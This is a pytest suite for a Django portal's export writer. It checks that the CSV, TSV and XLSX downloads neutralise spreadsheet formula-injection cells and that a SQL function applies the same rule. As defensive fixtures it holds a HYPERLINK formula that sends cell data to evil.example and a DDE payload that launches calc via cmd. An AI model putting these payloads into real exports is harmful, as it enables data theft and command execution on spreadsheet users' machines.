"""The file writer (portal.files): the formula rule, its SQL twin, the CSV, TSV and XLSX writers, and
every download a partner's own text reaches coming back with formula cells neutralised."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from django.db import connection
from django.db.models import F
from django.urls import reverse
from openpyxl import load_workbook

from accounts.models import Customer
from portal.files import (
    CSV,
    TSV,
    copy_csv,
    copy_to_file,
    csv_response,
    neutralise,
    select_columns,
    text_rows,
    write_xlsx,
)
from portal.roles import Role
from tests.factories import (
    CustomerFactory,
    CustomerMfaStatFactory,
    EarningFactory,
    MarketplaceLicenseFactory,
    PriceListFactory,
    PriceListRowFactory,
    ReconciliationLineFactory,
    ReferralFactory,
    UserFactory,
)

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'

#: (cell, what the writer makes of it)
SAMPLES = [
    ("=1+1", "'=1+1"),
    ("+cmd", "'+cmd"),
    ("-cmd", "'-cmd"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\tfoo", "'\tfoo"),
    ("\rfoo", "'\rfoo"),
    (EVIL, "'" + EVIL),
    ("-", "'-"),
    ("+", "'+"),
    ("-12.50 ", "'-12.50 "),
    ("--5", "'--5"),
    ("-1,5", "'-1,5"),
    ("- 3", "'- 3"),
    ("-1e", "'-1e"),
    ("-12.50\n", "'-12.50\n"),
    ("-١٢", "'-١٢"),  # Arabic-Indic digits are not a plain number to a spreadsheet
    ("-12.50", "-12.50"),
    ("+3", "+3"),
    ("-1.5E-3", "-1.5E-3"),
    ("-.5", "-.5"),
    ("+1.", "+1."),
    ("12", "12"),
    ("", ""),
    ("Contoso", "Contoso"),
    ("a=b", "a=b"),
    (" =1", " =1"),
    ("'=1", "'=1"),
    ("Ümlaut GmbH", "Ümlaut GmbH"),
]


def csv_of(response, delimiter: str = CSV) -> list[list[str]]:
    assert response.status_code == 200, response.content[:500] if not response.streaming else response
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode()), delimiter=delimiter))


def column(rows: list[list[str]], header: str) -> list[str]:
    position = rows[0].index(header)
    return [row[position] for row in rows[1:]]


# --- The rule -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("cell", "written"), SAMPLES)
def test_a_cell_starting_with_a_trigger_gets_a_quote_unless_it_is_a_plain_number(cell, written):
    assert neutralise(cell) == written


@pytest.mark.parametrize(("cell", "written"), SAMPLES)
def test_neutralising_twice_changes_nothing_more(cell, written):
    assert neutralise(written) == written


@pytest.mark.django_db
def test_the_sql_function_is_the_python_rule():
    cells = [cell for cell, _written in SAMPLES]
    with connection.cursor() as cursor:
        cursor.execute("SELECT portal_csv_cell(cell) FROM unnest(%s::text[]) AS cell", [cells])
        written = [row[0] for row in cursor.fetchall()]
        cursor.execute("SELECT portal_csv_cell(NULL)")
        assert cursor.fetchone() == (None,)

    assert written == [neutralise(cell) for cell in cells]


@pytest.mark.django_db
def test_the_sql_function_is_inlined_into_the_select():
    """No function call per cell: the plan holds the function's expression, not its name."""
    with connection.cursor() as cursor:
        cursor.execute(f"EXPLAIN VERBOSE SELECT portal_csv_cell(name) FROM {Customer._meta.db_table}")
        plan = "\n".join(row[0] for row in cursor.fetchall())

    assert "portal_csv_cell" not in plan
    assert "ascii(" in plan


# --- Python rows: CSV and TSV --------------------------------------------------------------------------


def test_csv_rows_are_neutralised_quoted_and_keep_numbers():
    rows = [("name", "amount", "note"), (EVIL, Decimal("-12.50"), None), ("-cmd", -3, "a, b")]

    text = "".join(text_rows(rows))

    assert text == (
        'name,amount,note\r\n"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",-12.50,\r\n'
        '\'-cmd,-3,"a, b"\r\n'
    )
    assert list(csv.reader(io.StringIO(text)))[1] == ["'" + EVIL, "-12.50", ""]


def test_tsv_rows_are_tab_delimited_with_the_same_quoting():
    rows = [("name", "amount"), ("\tindented", "-1.5E-3"), ('say "hi"', "+x")]

    text = "".join(text_rows(rows, delimiter=TSV))

    assert text == 'name\tamount\r\n"\'\tindented"\t-1.5E-3\r\n"say ""hi"""\t\'+x\r\n'
    assert list(csv.reader(io.StringIO(text), delimiter=TSV)) == [
        ["name", "amount"],
        ["'\tindented", "-1.5E-3"],
        ['say "hi"', "'+x"],
    ]


def test_the_response_streams_lines_and_sends_a_whole_text_as_it_is():
    streamed = csv_response(text_rows([("a",), ("=b",)]), "things.csv")
    whole = csv_response("a\r\n'=b\r\n", "things.tsv")

    assert streamed.streaming and b"".join(streamed.streaming_content) == b"a\r\n'=b\r\n"
    assert streamed["Content-Type"] == "text/csv; charset=utf-8"
    assert streamed["Content-Disposition"] == 'attachment; filename="things.csv"'
    assert not whole.streaming and whole.content == b"a\r\n'=b\r\n"
    assert whole["Content-Type"] == "text/tab-separated-values; charset=utf-8"


# --- XLSX ----------------------------------------------------------------------------------------------


def test_xlsx_text_is_neutralised_and_never_a_formula_while_numbers_and_dates_stay_typed():
    rows = [
        [EVIL, Decimal("-12.50"), date(2025, 3, 31), "-12.50"],
        ["@SUM(A1)", 7, None, "=1+1"],
    ]

    workbook = load_workbook(write_xlsx("Customers", ["name", "amount", "date", "text"], rows))
    sheet = workbook["Customers"]
    cells = [cell for row in sheet.iter_rows() for cell in row]

    assert [cell.data_type for cell in cells if cell.data_type == "f"] == []
    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)] == [
        ["'" + EVIL, -12.5, datetime(2025, 3, 31), "-12.50"],
        ["'@SUM(A1)", 7, None, "'=1+1"],
    ]
    assert sheet["B2"].data_type == "n" and sheet["C2"].is_date and sheet["D2"].data_type == "s"


# --- COPY ----------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_select_columns_neutralises_text_columns_only(org_a):
    CustomerFactory(organization=org_a, name=EVIL, domain="evil.example", employee_count=5)
    CustomerFactory(organization=org_a, name="-12.50", domain="number.example", employee_count=None)
    customers = Customer.objects.filter(organization=org_a).order_by("domain")

    sql, params = select_columns(
        customers,
        {"name": F("name"), "employees": F("employee_count"), "created": F("created_at")},
    )
    rows = list(csv.reader(io.StringIO(b"".join(copy_csv(sql, params)).decode())))

    assert 'portal_csv_cell("c0")' in sql
    assert 'portal_csv_cell("c1")' not in sql and 'portal_csv_cell("c2")' not in sql
    assert [row[:2] for row in rows] == [["name", "employees"], ["'" + EVIL, "5"], ["-12.50", ""]]


@pytest.mark.django_db
def test_copy_writes_tsv_and_files_with_the_same_rule(org_a, tmp_path):
    CustomerFactory(organization=org_a, name="+49 Contoso\tGmbH", domain="plus.example")
    customers = Customer.objects.filter(organization=org_a)
    sql, params = select_columns(customers, {"name": F("name"), "employees": F("employee_count")})

    tsv = b"".join(copy_csv(sql, params, delimiter=TSV)).decode()
    path = tmp_path / "customers.tsv"
    with path.open("wb") as target:
        count = copy_to_file(sql, params, target, delimiter=TSV)

    assert tsv == 'name\temployees\n"\'+49 Contoso\tGmbH"\t\n'
    assert count == 1
    assert path.read_text() == tsv


# --- Downloads a partner's text reaches ----------------------------------------------------------------


@pytest.fixture
def gina(org_a):
    """A Global admin: reads the security pages."""
    return UserFactory(organization=org_a, email="gina@alpha.example", roles=[Role.GLOBAL_ADMIN])


@pytest.mark.django_db
def test_a_formula_named_customer_comes_back_neutralised_in_the_customer_mfa_download(
    org_a, gina, verified_client
):
    # Legacy data: written before names were checked, so no validation runs here.
    customer = Customer.objects.create(organization=org_a, name=EVIL, domain="evil.example", country="DE")
    CustomerMfaStatFactory(organization=org_a, customer=customer)  # the download lists measured customers

    rows = csv_of(verified_client(gina).get(reverse("security:customers-mfa-download")))

    assert column(rows, "customer") == ["'" + EVIL]


@pytest.mark.django_db
def test_a_formula_display_name_comes_back_neutralised_in_the_mfa_users_download(
    org_a, gina, verified_client
):
    UserFactory(organization=org_a, email="mallory@alpha.example", display_name="@SUM(1+1)*cmd")

    rows = csv_of(verified_client(gina).get(reverse("security:mfa-download")))

    assert "'@SUM(1+1)*cmd" in column(rows, "displayName")


@pytest.mark.django_db
@pytest.mark.parametrize("report", ["earnings", "summarized"])
def test_the_earnings_csv_download_neutralises_customer_names(report, org_a, alice, verified_client):
    EarningFactory(organization=org_a, customer_name=EVIL, earning_amount=Decimal("-12.50"))

    url = reverse("earnings:download", kwargs={"report": report, "fmt": "csv"})
    rows = csv_of(verified_client(alice).get(url))

    assert column(rows, "customerName") == ["'" + EVIL]
    assert column(rows, "earningAmount") == ["-12.50"]


@pytest.mark.django_db
def test_the_earnings_xlsx_download_has_no_formula_cell(org_a, alice, verified_client):
    EarningFactory(organization=org_a, customer_name=EVIL, earning_amount=Decimal("-12.50"))

    url = reverse("earnings:download", kwargs={"report": "earnings", "fmt": "xlsx"})
    response = verified_client(alice).get(url)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header, row = sheet.iter_rows()

    assert not [cell.coordinate for cell in header + row if cell.data_type == "f"]
    values = {title.value: cell.value for title, cell in zip(header, row, strict=True)}
    assert values["customerName"] == "'" + EVIL
    assert values["earningAmount"] == Decimal("-12.50")


@pytest.mark.django_db
def test_the_reconciliation_download_neutralises_the_partners_own_cells(org_a, alice, verified_client):
    line = ReconciliationLineFactory(
        reconciliation__organization=org_a, customer_name=EVIL, partner_amount=Decimal("-10.00")
    )

    url = reverse("earnings:reconcile-csv", args=[line.reconciliation.pk])
    rows = csv_of(verified_client(alice).get(url))

    assert column(rows, "customerName") == ["'" + EVIL]
    assert column(rows, "partnerAmount") == ["-10.00"]


@pytest.mark.django_db
def test_the_cosell_insights_download_neutralises_a_stage_name(org_a, verified_client):
    dana = UserFactory(organization=org_a, roles=[Role.REFERRALS_ADMIN])
    ReferralFactory(organization=org_a, status="Closed", substatus="=2+5+cmd", currency="USD")

    rows = csv_of(verified_client(dana).get(reverse("cosell:insights.csv")))

    assert column(rows, "substatus") == ["'=2+5+cmd"]


@pytest.mark.django_db
def test_the_membership_license_download_neutralises_customer_names(org_a, verified_client):
    pia = UserFactory(organization=org_a, roles=[Role.PARTNER_ADMIN])
    MarketplaceLicenseFactory(organization=org_a, customer_name=EVIL)

    rows = csv_of(verified_client(pia).get(reverse("membership:license-report-download")))

    assert column(rows, "Customer name") == ["'" + EVIL]


@pytest.mark.django_db
def test_the_price_list_downloads_neutralise_titles(alice, verified_client):
    base = PriceListFactory(effective_month=date(2025, 3, 1))
    current = PriceListFactory()
    PriceListRowFactory(price_list=current, product_title="-2+3+cmd|' /C calc'!A0", unit_price=Decimal("1.5"))
    client = verified_client(alice)

    rows = csv_of(client.get(reverse("commerce:price-list-rows-csv", args=[current.pk])))
    diff = csv_of(
        client.get(reverse("commerce:price-list-diff-csv", args=[current.pk]), {"against": base.pk})
    )

    assert column(rows, "ProductTitle") == ["'-2+3+cmd|' /C calc'!A0"]
    assert column(rows, "UnitPrice") == ["1.50"]
    assert column(diff, "ProductTitle") == ["'-2+3+cmd|' /C calc'!A0"]
